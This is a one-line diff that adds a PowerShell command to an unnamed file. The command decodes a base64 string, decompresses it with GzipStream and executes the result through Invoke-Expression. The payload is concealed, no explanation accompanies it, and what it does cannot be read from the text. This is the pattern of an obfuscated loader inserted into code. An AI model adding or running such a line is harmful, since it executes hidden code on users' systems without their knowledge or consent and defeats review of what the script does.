@@ -1,0 +1,1 @@
+IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAL2KEWsC/1MpVrBVUM/PyUnNULdWUCmO1jXU09PVUCnW80nNSy/J0IxV0M3Kz8xTUFfnik7OSCyKjo3VMDfWMbPUsbDQhMsBAC6JlcFHAAAA'))),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()
